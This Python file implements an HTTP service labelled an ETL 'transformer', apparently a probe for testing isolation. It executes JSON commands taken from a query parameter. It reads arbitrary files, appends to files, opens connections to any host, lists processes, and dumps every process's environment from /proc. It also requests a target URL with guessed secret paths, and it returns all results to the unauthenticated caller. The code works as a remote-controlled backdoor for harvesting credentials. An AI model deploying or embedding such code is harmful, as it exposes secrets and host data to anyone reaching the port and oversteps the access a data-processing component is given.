"""A transformer that tries what etl_args says, in JSON, and answers what came of it: {"fetch": path below AIS_TARGET_URL, "secret": other},
{"list": directory}, {"read": file}, {"write": file}, {"connect": [host, port]}, {"env": true}, {"processes": true}, {"who": true}."""

import json
import os
import re
import socket
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit


def fetch(path, method="GET", secret=None):
    url = os.environ["AIS_TARGET_URL"]
    if secret is not None:
        url = re.sub(r"/[^/]*$", "/" + secret, url)
    try:
        with urllib.request.urlopen(urllib.request.Request(url + path, b"x" if method == "PUT" else None, method=method), timeout=10) as r:
            return [r.status, r.read().decode("latin-1")]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode("latin-1")]


def read(path):
    with open(path, "rb") as f:
        return f.read().decode("latin-1")


def write(path):
    with open(path, "ab") as f:
        f.write(b"x")


def environments():
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found[pid] = read(f"/proc/{pid}/environ")
        except OSError:
            pass
    return found


def tried(what, own):
    try:
        if "fetch" in what:
            return fetch(what["fetch"].replace("OWN", own), what.get("method", "GET"), what.get("secret"))
        if "list" in what:
            return os.listdir(what["list"])
        if "read" in what:
            return read(what["read"])
        if "write" in what:
            return write(what["write"])
        if "connect" in what:
            return socket.create_connection(tuple(what["connect"]), 3).close()
        if "env" in what:
            return environments()
        if "who" in what:
            return {"uid": os.getuid(), "groups": os.getgroups(), "files": [os.readlink(f"/proc/self/fd/{fd}") for fd in (0, 1, 2)],
                    "count": len(os.listdir("/proc/self/fd"))}
        return [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as e:
        return type(e).__name__


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        parts, body = urlsplit(self.path), b"ok"
        if parts.path != "/health":
            what = json.loads(parse_qs(parts.query)["etl_args"][0])
            body = json.dumps(tried(what, parts.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


ThreadingHTTPServer(("0.0.0.0", 8000), Handler).serve_forever()
